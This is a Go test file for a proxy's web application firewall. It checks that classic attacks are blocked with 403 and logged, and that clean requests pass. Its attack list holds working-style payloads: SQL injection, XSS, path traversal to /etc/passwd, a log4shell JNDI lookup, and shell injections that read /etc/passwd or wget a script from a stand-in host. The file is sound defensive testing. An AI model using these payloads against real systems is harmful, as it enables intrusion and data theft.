package waf

import (
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-proxy/gatehouse/internal/protocol"
)

func client() *http.Client {
	return &http.Client{Timeout: 20 * time.Second}
}

// attack is one request the CRS must refuse at paranoia level 1.
type attack struct {
	name, method, path, contentType, body string
	header                                []string
}

// classicAttacks are the list: SQLi, XSS in the query and in a
// form body, path traversal (as a parameter: the runtime cleans the path
// itself before middleware runs), a log4shell-style header, shell
// injection, plus JSON-body SQLi.
var classicAttacks = []attack{
	{name: "sqli query", method: "GET", path: "/item?id=" + url.QueryEscape("1' OR '1'='1")},
	{name: "sqli union", method: "GET", path: "/item?id=" + url.QueryEscape("1 UNION SELECT username, password FROM users--")},
	{name: "xss query", method: "GET", path: "/search?q=" + url.QueryEscape("<script>alert(1)</script>")},
	{name: "xss form body", method: "POST", path: "/comment", contentType: "application/x-www-form-urlencoded",
		body: "text=" + url.QueryEscape("<script>alert(1)</script>")},
	{name: "sqli json body", method: "POST", path: "/api", contentType: "application/json",
		body: `{"id": "1' OR '1'='1' --"}`},
	{name: "path traversal", method: "GET", path: "/download?file=../../etc/passwd"},
	{name: "path traversal encoded", method: "GET", path: "/download?file=..%2f..%2fetc%2fpasswd"},
	{name: "path traversal double encoded", method: "GET", path: "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
	{name: "log4shell header", method: "GET", path: "/", header: []string{"X-Api-Version", "${jndi:ldap://x/a}"}},
	{name: "shell injection", method: "GET", path: "/ping?host=" + url.QueryEscape("127.0.0.1; cat /etc/passwd")},
	{name: "shell injection backticks", method: "GET", path: "/ping?host=" + url.QueryEscape("`wget http://x/sh`")},
}

func TestBlocksClassicAttacks(t *testing.T) {
	t.Parallel()
	g := newGateway(t, map[string]any{"mode": "blocking"}, nil)
	c := client()
	for i, a := range classicAttacks {
		t.Run(a.name, func(t *testing.T) {
			id := "rid-attack-" + string(rune('a'+i))
			before := g.hits.Load()
			hdr := append([]string{"X-Test-ID", id}, a.header...)
			status, body := do(t, c, a.method, g.front.URL+a.path, a.contentType, strings.NewReader(a.body), hdr...)
			if status != http.StatusForbidden {
				t.Fatalf("status %d (%q), want 403", status, body)
			}
			if want := string(protocol.ErrorBody(http.StatusForbidden, id)); body != want {
				t.Errorf("body %q, want %q", body, want)
			}
			if n := g.hits.Load() - before; n != 0 {
				t.Errorf("backend received %d requests", n)
			}
			if len(g.logs.linesWith(`"msg":"waf blocked"`, `"request_id":"`+id+`"`, `"status":403`)) != 1 {
				t.Errorf("no \"waf blocked\" line for %s; logs:\n%s", id, g.logs)
			}
		})
	}
	t.Run("clean requests pass", func(t *testing.T) {
		clean := []attack{
			{method: "GET", path: "/item?id=42&sort=name"},
			{method: "GET", path: "/search?q=" + url.QueryEscape("running shoes size 42")},
			{method: "POST", path: "/comment", contentType: "application/x-www-form-urlencoded", body: "text=Nice+article%2C+thanks%21"},
			{method: "POST", path: "/api", contentType: "application/json", body: `{"name": "Ada", "tags": ["x", "y"]}`},
		}
		for _, a := range clean {
			before := g.hits.Load()
			status, body := do(t, c, a.method, g.front.URL+a.path, a.contentType, strings.NewReader(a.body),
				"User-Agent", "Mozilla/5.0", "Accept", "text/html")
			if status != http.StatusOK || !strings.HasPrefix(body, "ok ") {
				t.Errorf("%s %s: %d %q, want 200 from the backend", a.method, a.path, status, body)
			}
			if g.hits.Load() != before+1 {
				t.Errorf("%s %s did not reach the backend", a.method, a.path)
			}
			if a.body != "" && body != "ok "+strconv.Itoa(len(a.body)) {
				t.Errorf("%s %s: backend got %q, want the whole body", a.method, a.path, body)
			}
		}
	})
}
